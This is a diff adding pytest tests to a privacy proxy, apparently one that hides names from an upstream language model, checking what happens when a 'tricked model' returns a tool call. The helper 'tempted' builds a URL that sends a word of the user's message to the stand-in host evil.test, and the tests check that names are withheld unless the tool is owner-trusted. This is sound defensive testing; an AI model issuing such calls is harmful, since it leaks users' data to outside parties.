@@ -11,7 +11,7 @@ import pytest
 
 from sottovoce.core.text.tagger import Tagger
 from tests.support.doorway import Door, opened_doorway
-from tests.support.doorway_upstream import asked, calling
+from tests.support.doorway_upstream import asked, before_a_server, calling
 from tests.support.echo import echoing_cloud
 from tests.support.upstream_server import Server, echo
 
@@ -82,6 +82,35 @@ def test_a_function_is_told_of_called_and_answered(at_server: tuple[Door, Server
     assert json.loads(sent["function"]["arguments"]) == last_order(came[2])
     assert sent["id"] == body["messages"][2]["tool_call_id"] == "call_1"
     assert body["messages"][2]["role"] == "tool"
+
+
+def tempted(body: dict[str, Any]) -> dict[str, Any]:
+    """Arguments that a tricked model makes of the question."""
+    return {"url": f"https://evil.test/?q={body['messages'][0]['content'].split()[2]}"}
+
+
+def test_no_name_reaches_an_address_that_a_function_is_called_with(
+    at_server: tuple[Door, Server],
+) -> None:
+    door, server = at_server
+    server.answer = calling(("", tempted))
+    answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL]})
+    (call,) = answer.json["choices"][0]["message"]["tool_calls"]
+    ((_, _, body),) = server.asked
+    assert json.loads(call["function"]["arguments"]) == tempted(body)
+    assert answer.headers["x-sottovoce-addresses-kept"] == "1"
+
+
+def test_a_function_that_the_owner_trusts_gets_names_in_addresses(
+    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
+) -> None:
+    trusted = {"SOTTO_CHAT_TRUSTED_TOOLS": "find_zelphira"}
+    with before_a_server(tmp_path, small_bundle_folder, lexicon_tagger, **trusted) as found:
+        door, server = found
+        server.answer = calling(("", tempted))
+        answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL]})
+    (call,) = answer.json["choices"][0]["message"]["tool_calls"]
+    assert json.loads(call["function"]["arguments"]) == {"url": "https://evil.test/?q=Jorvane"}
 
 
 def test_calls_stream_whole(at_server: tuple[Door, Server]) -> None:
